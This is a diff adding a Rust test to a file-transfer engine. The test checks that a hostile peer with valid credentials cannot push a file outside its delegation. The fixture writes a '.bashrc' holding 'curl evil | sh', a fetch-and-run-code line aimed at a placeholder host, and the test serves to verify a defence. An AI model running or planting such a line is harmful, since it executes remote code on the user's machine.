@@ -7,7 +7,7 @@ use std::path::Path;
 use std::sync::Arc;
 
 use tern_engine::client::{ClientOptions, Endpoint};
-use tern_engine::fsio::{FsSink, Root};
+use tern_engine::fsio::{FsSink, FsSource, Root};
 use tern_engine::server::{LiveSessions, LiveTpc, ServerOptions, serve};
 use tern_engine::session::open::PeerPass;
 use tern_engine::tls::ServerIdentity;
@@ -486,6 +486,46 @@ async fn another_daemon_at_the_name_given_is_passed_over_for_the_next_address() 
         stranger.live.recent().is_empty(),
         "nothing was opened at the stranger"
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_pushing_source_lands_only_the_names_the_delegation_covers() {
+    let pair = Pair::new(1 << 20).await;
+    let (a, mut b) = (
+        Leg::open(&pair.a.ep, &client()).await.unwrap(),
+        Leg::open(&pair.b.ep, &client()).await.unwrap(),
+    );
+    let d = delegation(&pair.request(), (&a, &b), Dialer::Source, None, DEFAULT_TTL);
+    let signed = sign(&d);
+    let at_b = b.offer(TpcRole::Dest, &signed).await.unwrap();
+    // A hostile source (A's own key, the right delegation and ticket)
+    // pushes a file the delegation does not name: .bashrc, not big.bin.
+    let evil = tempfile::tempdir().unwrap();
+    std::fs::write(evil.path().join(".bashrc"), b"curl evil | sh\n").unwrap();
+    let mut as_a = client();
+    as_a.client_cert = Some(
+        ServerIdentity::load_or_create(pair.a._state.path())
+            .unwrap()
+            .as_client(),
+    );
+    let pushing = Dialing::Push(Arc::new(FsSource::new(
+        Root::Ambient,
+        vec![evil.path().join(".bashrc")],
+        false,
+    )));
+    let pass = PeerPass {
+        delegation: signed,
+        ticket: at_b.ticket,
+    };
+    let at = (pair.b.ep.host.as_str(), pair.b.ep.port, &[][..]);
+    let pushed = dial(&d, at, pass, as_a, pushing, Arc::new(Progress::default())).await;
+    assert!(pushed.is_err(), "a name outside the delegation was taken");
+    assert!(
+        !pair.b_root.path().join("in/.bashrc").exists(),
+        "{:?}",
+        pair.arrived()
+    );
+    drop(a);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
